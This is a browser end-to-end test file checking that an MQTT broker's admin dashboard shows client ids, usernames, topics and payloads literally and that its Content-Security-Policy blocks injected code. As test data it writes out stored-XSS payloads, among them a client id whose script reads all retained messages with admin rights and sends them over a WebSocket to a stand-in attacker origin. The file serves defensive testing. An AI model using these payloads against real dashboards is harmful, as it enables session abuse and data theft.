/**
 * Security issue #11, finding 1: stored XSS in /dashboard. Every string the dashboard shows comes
 * from a client of the broker (client id, username, filter, topic, payload) and is hostile. It must
 * be shown literally and never run; and the page's Content-Security-Policy must stop injected code
 * from running or reaching another origin even if a rendering bug let markup through.
 *
 * Each hostile string, if it ran, would set window.__pwned, open a dialog or contact the "other
 * origin" server (127.0.0.1 on another port, standing for the attacker's host). Every check that
 * nothing ran first waits for the page to have rendered the hostile text and refreshed again.
 */
import { SignJWT } from "jose";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  adminContext,
  browserPerFile,
  clickDisconnect,
  inPageLogged,
  hasChromium,
  startOtherOrigin,
  watchPage,
} from "../e2e/browser";
import { E2E_ADMIN_TOKEN, E2E_JWT_SECRET } from "../e2e/global-setup";
import { brokerHttp, closeAll, connect } from "../support/clients";
import { uid } from "../support/ids";

const browser = browserPerFile();
let other: Awaited<ReturnType<typeof startOtherOrigin>>;

beforeAll(async () => {
  other = await startOtherOrigin();
});
afterEach(closeAll);
afterAll(async () => {
  await other?.close();
});

/** Script that, if it ever ran, would leave every trace the tests look for. No `'`, `+` or `#`. */
const ran = (tag: string) => `window.__pwned="${tag}";new WebSocket("${other.wsOrigin}/${tag}")`;

/** Opens the dashboard as the admin, watching for dialogs and requests that leave the origin. */
async function openDashboard(): Promise<{
  page: Page;
  seen: ReturnType<typeof watchPage>;
  close: () => Promise<void>;
}> {
  other.hits.length = 0;
  const context = await adminContext(browser());
  const page = await context.newPage();
  const seen = watchPage(page, brokerHttp());
  expect((await page.goto(`${brokerHttp()}/dashboard`))?.status()).toBe(200);
  return { page, seen, close: () => context.close() };
}

/** The text of every table cell (clients, subscriptions, retained topics) as the page shows it. */
const cellTexts = (page: Page) =>
  page.$$eval("#clients td, #subs td, #retained td", (tds) => tds.map((td) => td.textContent ?? ""));

/** Waits until every string is the whole text of some cell: shown literally, not parsed as markup. */
async function shownLiterally(page: Page, strings: string[]): Promise<void> {
  await expect
    .poll(
      async () => {
        const cells = await cellTexts(page);
        return strings.filter((s) => !cells.includes(s));
      },
      { timeout: 15000 },
    )
    .toEqual([]);
}

/** The control: the page has polled and re-rendered its tables `n` more times since now. */
async function refreshes(page: Page, n: number): Promise<void> {
  for (let i = 0; i < n; i++)
    await page.waitForResponse((r) => r.url().includes("/api/v1/overview?"), { timeout: 10000 });
  await page.waitForTimeout(0);
}

/** Nothing injected ran: no flag, no dialog, nothing sent to another origin. */
async function expectNothingRan(page: Page, seen: ReturnType<typeof watchPage>): Promise<void> {
  expect(await page.evaluate("window.__pwned ?? null")).toBeNull();
  expect(seen.dialogs).toEqual([]);
  expect(seen.elsewhere).toEqual([]);
  expect(other.hits).toEqual([]);
}

describe.skipIf(!hasChromium)("dashboard: broker data is text, never markup or script (issue #11 finding 1)", () => {
  it("a client id that closes the disconnect button's quoted attribute (x' autofocus onfocus='…') runs nothing, is shown literally, and can still be disconnected", async () => {
    const secret = `secret/${uid()}`;
    const publisher = await connect(5);
    await publisher.publishAsync(secret, "retained secret", { qos: 1, retain: true });
    // The reviewer's payload: read every retained message with the admin's credentials, send it out.
    const steal = `fetch("/api/v1/retained?filter=%23").then(r=>r.text()).then(t=>{window.__pwned=1;new WebSocket("${other.wsOrigin}/steal").onopen=e=>e.target.send(t)})`;
    const clientId = `x' autofocus onfocus='${steal}' data-x='${Date.now().toString(36)}`;
    expect(new TextEncoder().encode(clientId).length).toBeLessThanOrEqual(256); // MAX_CLIENT_ID_LENGTH
    const victim = await connect(5, { clientId });
    const { page, seen, close } = await openDashboard();
    await page.fill("#client-search", clientId); // one page of the shared broker's clients may not hold it
    await page.click("#client-search-go");
    await shownLiterally(page, [clientId]);
    await refreshes(page, 2);
    await expectNothingRan(page, seen);
    // its button carries the id as data, and disconnecting it works (5.0: DISCONNECT 0x98)
    const gone = new Promise<number>((resolve) => victim.on("disconnect", (p) => resolve(p.reasonCode ?? -1)));
    await clickDisconnect(page, clientId);
    expect(await gone).toBe(0x98);
    await expectNothingRan(page, seen);
    await close();
  });

  it("a hostile username (JWT sub), client id, subscription filter, retained topic and payload are shown literally and run nothing", async () => {
    const tag = uid("x");
    const username = `<img src=x onerror="${ran("username")}">`;
    const clientId = `"><img src=x onerror=${ran("client-id-2")}>${tag}`;
    const filter = `xss/${tag}/"><svg onload="${ran("filter")}">/</script><script>${ran("filter-2")}</script>/#`;
    const topic = `xss/${tag}/<img src=x onerror="${ran("topic")}">`;
    const payload = `"><script>alert(1)</script><img src=x onerror=alert(2)>`;
    const jwt = await new SignJWT({ sub: username })
      .setProtectedHeader({ alg: "HS256" })
      .setExpirationTime("5m")
      .sign(new TextEncoder().encode(E2E_JWT_SECRET));
    const device = await connect(5, { clientId, username: "jwt", password: jwt });
    await device.subscribeAsync(filter, { qos: 1 });
    await device.publishAsync(topic, payload, { qos: 1, retain: true });
    const { page, seen, close } = await openDashboard();
    // Narrow both tables to this test's rows: the shared broker holds other tests' clients and
    // retained messages, and the page lists a page of each.
    await page.fill("#client-search", clientId);
    await page.click("#client-search-go");
    await page.fill("#retained-filter", `xss/${tag}/#`);
    await page.press("#retained-filter", "Enter");
    await shownLiterally(page, [username, clientId, filter, topic, payload]);
    await refreshes(page, 2);
    await expectNothingRan(page, seen);
    await close();
  });

  it("a hostile topic and payload received by the in-page MQTT client are logged literally and run nothing", async () => {
    const tag = uid("in-page");
    const { page, seen, close } = await openDashboard();
    await page.click("#connect");
    await inPageLogged(page, "connected (MQTT");
    await page.fill("#sub-topic", `xss/${tag}/#`);
    await page.click("#subscribe");
    await inPageLogged(page, "subscribed");
    const topic = `xss/${tag}/<img src=x onerror="${ran("log-topic")}">`;
    const payload = `</script><script>${ran("log-payload")}</script><img src=x onerror=alert(3)>`;
    const device = await connect(4);
    await device.publishAsync(topic, payload, { qos: 0 });
    const line = `message on ${topic}: ${payload}`;
    await expect
      .poll(() => page.$$eval("#log div", (ds) => ds.map((d) => d.textContent ?? "")), { timeout: 10000 })
      .toContainEqual(expect.stringContaining(line));
    await refreshes(page, 1);
    await expectNothingRan(page, seen);
    await close();
  });

  it("the Content-Security-Policy allows no inline script and no other origin, and the in-page client still reaches /mqtt", async () => {
    const res = await fetch(`${brokerHttp()}/dashboard`, { headers: { authorization: `Bearer ${E2E_ADMIN_TOKEN}` } });
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).not.toContain("unsafe-inline");
    const directives = new Map(
      csp
        .split(";")
        .map((d) => d.trim().split(/\s+/))
        .map(([name, ...values]) => [name, values.join(" ")]),
    );
    expect(Object.fromEntries(directives)).toMatchObject({
      "default-src": "'none'",
      "script-src": "'self'",
      "style-src": "'self'",
      "connect-src": "'self'",
      "base-uri": "'none'",
      "form-action": "'self'",
      "frame-ancestors": "'none'",
    });
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");

    // In the browser: the policy is enforced, whatever a rendering bug might let through.
    const { page, seen, close } = await openDashboard();
    const violations: Promise<string[]> = page.evaluate(`new Promise((resolve) => {
      const found = [];
      document.addEventListener("securitypolicyviolation", (e) => {
        found.push(e.violatedDirective);
        if (found.length === 3) resolve(found);
      });
    })`);
    // What a rendering bug could let an attacker inject: an inline script, an inline event handler,
    // and a connection to another origin. Each is refused and reported.
    await page.evaluate(`{
      const s = document.createElement("script");
      s.textContent = ${JSON.stringify(ran("inline-script"))};
      document.body.append(s);
      const b = document.createElement("button");
      b.setAttribute("onclick", ${JSON.stringify(ran("inline-handler"))});
      document.body.append(b);
      b.click();
      try { new WebSocket(${JSON.stringify(`${other.wsOrigin}/csp`)}); } catch { /* refused at once */ }
    }`);
    expect((await violations).sort()).toEqual(["connect-src", "script-src-attr", "script-src-elem"]);
    // 'self' still covers the page's own WebSocket to /mqtt (CSP3: ws: on the same host and port)
    await page.click("#connect");
    await inPageLogged(page, "connected (MQTT");
    await expectNothingRan(page, seen);
    await close();
  });
});
